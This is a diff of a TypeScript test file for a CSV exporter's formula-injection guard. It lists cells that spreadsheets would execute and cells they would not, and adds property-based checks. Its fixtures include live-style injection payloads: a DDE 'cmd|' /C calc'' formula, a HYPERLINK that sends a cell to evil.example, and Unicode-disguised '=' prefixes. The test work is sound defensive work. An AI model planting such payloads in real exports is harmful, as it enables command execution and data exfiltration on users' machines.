@@ -7,23 +7,108 @@ import { written } from './gathering-sink.ts';
 
 const cell = (value: unknown) => csvCell(JSON.stringify(value), false);
 
+/**
+ * What the programs do with a cell of CSV. LibreOffice 7.4 and Gnumeric 1.12 were asked; what is said of Excel and Google Sheets is known from
+ * their documentation and their users.
+ */
+const run = [
+  // All of them, also where one skips what stands before it.
+  ...['=1+1', '=x', '=', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")', ' =1'],
+  ...['\u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u200d=1', '\u2060=1', '\u180e=1', '\u00ad=1'],
+  ...['\u2028=1', '\u0301=1', '\u3164=1', '\u{e0041}=1', '\ufe0f=1', '\ufeff \u200b\u2060=1', '\n=1', '\t=1'],
+  // Excel: a sign before what is no number, a function after @.
+  ...[
+    '-2+3+cmd|x',
+    '+1-2',
+    '--5',
+    '-(5)',
+    '+(1)',
+    '-1/2',
+    '-A1',
+    '-TRUE',
+    '- item',
+    '-item',
+    '+item',
+    '   +a',
+  ],
+  ...['@SUM(1,2)', '@SUM(1+1)*cmd|x', '@name is', '@a+b', '@a!b', '-05:30', '-5-', '-5 - 3', '-3 years'],
+  ...['-\u200b5', '-5\n=1', '- a\n- b', '\u200c-x', '\u2060@x()'],
+  // Arithmetic to Excel and Google Sheets.
+  ...[
+    '+49-30-1234567',
+    '+1-555-123-4567',
+    '+49/30/12',
+    '+4930123456+1',
+    '+4930123456 =1',
+    '+(49)',
+    '+1-(555)',
+  ],
+  // In Japanese versions.
+  ...['＝1', '＋a', '－a', '＠x(1)', '\u3000＝1', '﹦1', '−a'],
+];
+
+/** Numbers, texts and errors to all of them. */
+const notRun = [
+  ...['-', '--', '---', '+', '++', '+-', ' - ', '−', '－－'],
+  ...[
+    '+1',
+    '-1',
+    '-1.5',
+    '-1,5',
+    '-1,234.56',
+    '-1.234,56',
+    '-1 234',
+    '-1\u202f234,5',
+    "-1'234.5",
+    '- 5',
+    '-.5',
+  ],
+  ...[
+    '-1e5',
+    '-1.5E+10',
+    '-5%',
+    '-5 %',
+    '-$5',
+    '-€5',
+    '-5 €',
+    '-5,00€',
+    '+12345',
+    '−5',
+    '＋1',
+    '－１２',
+    '+007',
+  ],
+  ...['2020-01-31', '31.01.2020', '01-02-2020', '1-2', '09:30', '(5)', '5-', '49,-'],
+  ...['+493012345678', '+12345', '+1234567890123456', '+0123456789', '+49 30 1234567', '+49 (0)30 1234567'],
+  ...['+49(0)30123', '+1 (555) 123-4567', '+1 555-123-4567', '+1.555.123.4567', '+49 30 1234567-12'],
+  ...['+1 555 123 4567 ext. 89', '+1 (555) 123-4567 x89', ' +49 30 1 ', '030-1234567'],
+  ...['@name', '@user-name', '@user.name_1', '@Ärger', '@a1', '@a@b.example', ' @name'],
+  ...[
+    'a\n- b\n=c\n+d\n@e()',
+    'a\r\n=1',
+    'x\r+1',
+    "it's",
+    "'",
+    "'x",
+    '|',
+    '|calc',
+    '| a | b |',
+    '\ttext',
+    '\rtext',
+  ],
+  ...['a = b', '* item', '– dash', '„-1"', '"=1"', '(=1)', '#=1', 'a,=1'],
+];
+
 describe('cells that a spreadsheet would run', () => {
-  it.each([
-    ...['=1+1', '+1', '-1', '@SUM(A1)', '|calc', "=cmd|' /C calc'!A0"],
-    ...['=HYPERLINK("https://evil.example?x="&A1,"click")', '-2+3+cmd|x', '@handle', ' =1', '   +1'],
-    ...['\ttext', '\rtext', '\u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u200d=1', '\u200c-1'],
-    ...['\u2060@x', '\u180e=1', '\u00ad=1', '\u2028=1', '\u0301=1', '\u3164=1', '\u{e0041}=1'],
-    ...['\ufe0f=1', '\ufeff \u200b\u2060=1', '＝1', '＋1', '－1', '＠x', '\u3000＝1', '﹦1', '−1'],
-    ...['+49 30 1234567', '+12345', '+1234567890123456', '+0123456789', '+4930123456 =1'],
-    ...['+4930123456+1'],
-  ])('%j', (text) => expect(cell(text)).toBe(`'${text}`));
+  it.each(run)('%j', (text) => expect(cell(text).replaceAll("\t'", '\t')).toBe(`'${text}`));
+  it.each(notRun)('and cells that none does: %j', (text) => expect(cell(text)).toBe(text));
 
   it.each([
     ['NUL before', '\0=1', "'=1"],
     ['escape before', '\u001b=1', "'=1"],
     ['C1 before', '\u0085=1', "'=1"],
     ['bidi before', '\u202e=1', "'=1"],
-    ['mark before', '\u200e+1', "'+1"],
+    ['mark before', '\u200e+a', "'+a"],
     ['control inside a phone number', '+4930\u000012345678', '+493012345678'],
   ])('%s: dropped, then looked at', (_name, text, written) => expect(cell(text)).toBe(written));
 
@@ -31,17 +116,15 @@ describe('cells that a spreadsheet would run', () => {
   it.each([
     ['a semicolon', "x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
     ['a tab', 'x\t@SUM(A1)', "x\t'@SUM(A1)"],
-    ['a line feed', 'x\n-1+cmd', "x\n'-1+cmd"],
-    ['a carriage return', 'x\r+1', "x\r'+1"],
-    ['both line ends', 'x\r\n=1', "x\r\n'=1"],
+    ['one of them, and harmless elsewhere', 'x;-1', "x;'-1"],
+    ['a line end after one of them, which belongs to the text', 'x;\n- a\t\r\n=b', 'x;\n- a\t\r\n=b'],
     ['each of them', 'a;=1;=2;;=3', "a;'=1;'=2;;'=3"],
     ['white space behind it', 'x; \u00a0\u200b=1', "x; \u00a0\u200b'=1"],
     ['what they take for an empty quoted text', 'x;"=1', 'x;"\'=1'],
     ['one of another width', 'x;＝1', "x;'＝1"],
     ['a delimiter that is the first', '\t=1', "'\t'=1"],
-    ['a line end that is the first', '\n=1', "'\n'=1"],
     ['several, where the first would do', '=1;=2', "'=1;'=2"],
-    ['a telephone number and more', '+4930123456\n=1', "'+4930123456\n'=1"],
+    ['apostrophes of its own', "'=1;''=2", "''=1;'''=2"],
     ['nothing that runs', 'a; b;c\td\ne = f; 1-2;"q"', 'a; b;c\td\ne = f; 1-2;"q"'],
     ['a pipe, which nobody splits at unasked', 'CEO | @ada', 'CEO | @ada'],
   ])('behind %s', (_name, text, written) => expect(cell(text)).toBe(written));
@@ -78,7 +161,6 @@ describe('cells that are left as they are', () => {
     ['lines', '"a\\r\\nb\\tc"', 'a\r\nb\tc'],
     ['an array', '[1.10, "=1"]', '[1.10, "=1"]'],
     ['an object', '{"a":\n 12345678901234567890}', '{"a": 12345678901234567890}'],
-    ['an apostrophe', '"\'=1"', "'=1"],
     ['a list', '"* item"', '* item'],
     ['half a pair', '"\\ud800x"', '\ufffdx'],
   ])('%s', (_name, json, text) => expect(csvCell(json, false)).toBe(text));
@@ -92,37 +174,60 @@ describe('cells that are left as they are', () => {
 
 const evil = fc.string({
   unit: fc.oneof(
-    fc.constantFrom(...'=+-@| \t;\n\r",\0\ufeff\u200b１1'.split('')),
+    fc.constantFrom(...'=+-@| \t;\n\r",\0\ufeff\u200b１1a().'.split('')),
     fc.string({ unit: 'binary', maxLength: 1 }),
   ),
   maxLength: 12,
 });
 
+/** Roughly what a spreadsheet does, and never less: it skips what is not shown, and runs what begins like a formula and is no plain value. */
+function isRun(text: string): boolean {
+  const shown = text.replace(/^[\s\p{C}\p{M}\p{Default_Ignorable_Code_Point}]+/u, '').trimEnd();
+  if (!/^[=+\-@＝＋－＠﹢﹣﹦﹫−]/.test(shown)) return false;
+  if (/^@[^\s=+|!"'(),;:/*^&<>]+$/u.test(shown)) return false;
+  // Nothing to calculate with, or no sign between two numbers.
+  const operands = shown.split(/[+\-−＋－﹢﹣]/);
+  return operands.some((one) => /[^\p{Nd}\s.,'’%‰\p{Sc}e()/x]/iu.test(one)) || isArithmetic(shown);
+}
+
+/** Signs, then a number, a sign and a number, where no two numbers stand beside each other. */
+function isArithmetic(text: string): boolean {
+  if (/\p{Nd}[\s.,'’]*[\s()]+[\s.,'’]*\p{Nd}/u.test(text)) return false;
+  return /^[=@]/.test(text) || /\p{Nd}.*[+\-−＋－﹢﹣/].*\p{Nd}/su.test(text.replace(/E[+-]?\d+$/i, ''));
+}
+
 it('no string of any kind begins a formula', () => {
   fc.assert(
     fc.property(evil, (text) => {
       const written = cell(text);
-      expect(
-        /^\+[1-9]\d{6,14}$/.test(written) || !/^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@|]/.test(written),
-      ).toBe(true);
+      expect(isRun(written), written).toBe(false);
       expect(written).not.toMatch(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/);
+      // Nothing else is changed: only where something would be run, here or where a reader splits.
+      const clean = text
+        .replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g, '')
+        .toWellFormed();
+      if (written !== clean) expect(unguarded(written)).toBe(clean);
+      if (!/[=+\-@＝＋－＠﹢﹣﹦﹫−]/.test(clean)) expect(written).toBe(clean);
     }),
-    { numRuns: 1000 },
+    { numRuns: 2000 },
   );
 });
 
 it('what is written is read back as it was', () => {
-  const text = fc.string({ unit: fc.constantFrom(...'aé1=+-@| \t;\n\r",\u200b\u0301１＝'), maxLength: 12 });
+  const text = fc.string({ unit: fc.constantFrom(...'aé1=+-@| \t;\n\r",\'\u200b\u0301１＝'), maxLength: 12 });
   fc.assert(
     fc.property(text, (one) => {
       expect(unguarded(cell(one))).toBe(one);
     }),
-    { numRuns: 2000 },
+    { numRuns: 5000 },
   );
   expect(unguarded("it's 'so'; 'x")).toBe("it's 'so'; 'x");
 });
 
-/** As a spreadsheet reads it: a quote counts where a field begins, and what comes after its end belongs to it too. */
+/**
+ * As a spreadsheet reads it: a quote counts where a field begins, and what comes after its end belongs to it too. A line further down in a
+ * text is left as it is, so that its beginning does not count.
+ */
 function fieldsOf(text: string, delimiters: string, knowsQuotes: boolean): string[] {
   const fields = [''];
   let quoted = false;
@@ -132,7 +237,8 @@ function fieldsOf(text: string, delimiters: string, knowsQuotes: boolean): strin
     const isQuote = knowsQuotes && character === '"';
     if (quoted && isQuote && text[at + 1] !== '"') quoted = false;
     else if (begins && isQuote) quoted = true;
-    else if (!quoted && `${delimiters}\r\n`.includes(character)) fields.push('');
+    else if (!quoted && delimiters.includes(character)) fields.push('');
+    else if (!quoted && '\r\n'.includes(character)) fields.push('.');
     else fields[fields.length - 1] += character;
     if (quoted && isQuote && !begins && text[at + 1] === '"') at++;
     begins = !quoted && `${delimiters}\r\n`.includes(character);
@@ -155,8 +261,8 @@ it.each([
       const { text } = await written('csv', { layout, shape: 'list' }, [JSON.stringify({ a, b, c })]);
       const [, ...lines] = text.split('\r\n');
       for (const field of fieldsOf(lines.join('\r\n'), delimiters, knowsQuotes)) {
-        const begins = field.replace(/^[\s\p{C}\p{M}\p{Default_Ignorable_Code_Point}]+/u, '');
-        expect(/^\+[1-9]\d{6,14}(?:,|$)/.test(begins) || !/^[=+\-@|]/.test(begins), field).toBe(true);
+        // What belongs to the next cell is no continuation of a number.
+        expect(isRun(field.split(/[,"]/, 1)[0] ?? ''), field).toBe(false);
       }
     }),
     { numRuns: 500 },
